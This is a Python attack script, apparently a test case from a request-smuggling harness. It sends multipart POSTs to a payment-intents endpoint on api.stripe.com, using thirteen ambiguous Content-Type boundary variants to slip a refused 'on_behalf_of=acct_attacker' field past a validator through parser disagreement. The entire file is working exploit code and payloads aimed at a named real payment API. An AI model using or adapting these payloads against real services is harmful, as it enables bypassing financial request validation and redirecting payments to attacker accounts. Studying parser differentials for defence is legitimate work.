# attack: of two boundaries in the Content-Type one server takes the first and Rack the last, and finds other parts
# expect: broker
# validator: refused
import json
import socket
import ssl


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


TARGET = "/v1/payment_intents"


def part(disposition, value="acct_attacker", more=""):
    return f"Content-Disposition: form-data; {disposition}{more}\r\n\r\n{value}\r\n"


def send(name, content_type, body):
    try:
        status, arrived = ask(TARGET, "POST", f"Content-Type: {content_type}\r\n", body.encode("latin-1"))
    except (OSError, ValueError, IndexError) as error:
        print(name, type(error).__name__, error)
        return
    print(name, status)
    # The refused field's name stands in the body as a name: that it arrived at all means that two readings were possible.
    if arrived and "on_behalf_of" in arrived["body"]:
        print("ESCAPED:", name, "arrived", flush=True)


HARMLESS = part('name="amount"', "1")
HIDDEN = part('name="on_behalf_of"')
INSIDE = f"--B\r\n{HIDDEN}--B--\r\n"
BEFORE = f"{INSIDE}--A\r\n{HARMLESS}--A--\r\n"
WITHIN = f"--A\r\n{part('name="description"', INSIDE)}--A--\r\n"
AFTER = f"--A\r\n{HARMLESS}--A--\r\n{INSIDE}"
TYPES = (
    "multipart/form-data; boundary=A; boundary=B",
    "multipart/form-data; boundary=B; boundary=A",
    "multipart/form-data; boundary=A, boundary=B",
    'multipart/form-data; x="boundary=A"; boundary=B',
    "multipart/form-data; boundary*=utf-8''A; boundary=B",
    "multipart/form-data; boundary*0=A; boundary=B",
    "multipart/form-data; BOUNDARY=A; boundary=B",
    "multipart/form-data; boundary = A",
    'multipart/form-data; boundary="A"; charset=utf-16',
    "multipart/mixed; boundary=A",
    "multipart/form-data; boundary=A",
    "multipart/form-data",
    "multipart/form-data; boundary=",
)
for content_type in TYPES:
    for where, body in (("before", BEFORE), ("within", WITHIN), ("after", AFTER)):
        # With the one boundary A what is within a part is only a value.
        if (content_type, where) != ("multipart/form-data; boundary=A", "within"):
            send(f"{content_type} {where}", content_type, body)
